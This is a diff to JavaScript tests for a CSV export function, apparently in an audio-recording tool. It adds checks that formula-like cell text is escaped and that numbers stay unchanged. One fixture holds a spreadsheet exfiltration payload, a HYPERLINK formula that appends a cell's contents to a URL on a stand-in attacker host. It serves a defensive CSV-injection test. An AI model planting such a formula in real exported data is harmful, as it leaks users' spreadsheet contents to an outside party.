@@ -58,6 +58,25 @@ test('the table has one line per recording and quotes what needs it', () => {
   );
 });
 
+test('text of the table is no formula, nor is a part of it where cells end at semicolons; numbers are left as they are', () => {
+  const written = (/** @type {string} */ name) =>
+    csv(['a'], [{ name, values: [], given: [name] }]).split('\n');
+  // As crates/cli/src/io/names.rs and table.rs have it.
+  for (const text of ['=1+1', '+a', '-a.wav', '@x', "'=x", "''-x", "'="])
+    assert.deepEqual(written(text), ['file,a', `'${text},'${text}`, '']);
+  for (const text of ['a=b', '-', "'a'", '', 'a.wav', "'"])
+    assert.deepEqual(written(text), ['file,a', `${text},${text}`, '']);
+  for (const text of ['x;=1+1.flac', 'a\t=b', 'a,b', 'a\rb'])
+    assert.deepEqual(written(text), ['file,a', `"${text}","${text}"`, '']);
+  const link = '=HYPERLINK("https://evil.example/?"&B2)';
+  assert.equal(written(link)[1].split(',')[0], `"'=HYPERLINK(""https://evil.example/?""&B2)"`);
+  assert.equal(written('\tx')[1], `"'\tx","'\tx"`);
+  assert.equal(
+    csv(['a', 'b', 'c'], [{ name: 'x', before: [-0.5, '-0.5'], values: [-2], given: [-1e-7, true] }]),
+    "file,a,b,c\nx,-0.5,'-0.5,-2,-1e-7,true\n",
+  );
+});
+
 test('a row has a cell for each column of its head, whether or not a model has read it', () => {
   const analysis = /** @type {any} */ ({
     activation: 3.25,
@@ -69,17 +88,17 @@ test('a row has a cell for each column of its head, whether or not a model has r
   const read = { ...session, analysis, measures: analysis, seconds: 1.5, name: 'The dog, louder' };
   const none = { ...session, analysis: null, measures: null, seconds: 0.25, name: '' };
   assert.deepEqual(given(read), [
-    '3.25',
-    '2.5',
-    '5.125',
+    3.25,
+    2.5,
+    5.125,
     '',
     'short noisy',
-    '1.5',
+    1.5,
     'The dog, louder',
     'metric-act',
     'abc',
   ]);
-  assert.deepEqual(given(none), ['', '', '', '', '', '0.25', '', '', '']);
+  assert.deepEqual(given(none), ['', '', '', '', '', 0.25, '', '', '']);
   assert.equal(columns().length, given(none).length);
   set({ acoustics: true });
   const measured = { ...read, analysis: null, measures: /** @type {any} */ ({ flags: ['short'] }) };
@@ -87,8 +106,8 @@ test('a row has a cell for each column of its head, whether or not a model has r
   assert.deepEqual(
     [given(measured), given(none)],
     [
-      ['short', '1.5', 'The dog, louder'],
-      ['', '0.25', ''],
+      ['short', 1.5, 'The dog, louder'],
+      ['', 0.25, ''],
     ],
   );
   set({ acoustics: false });
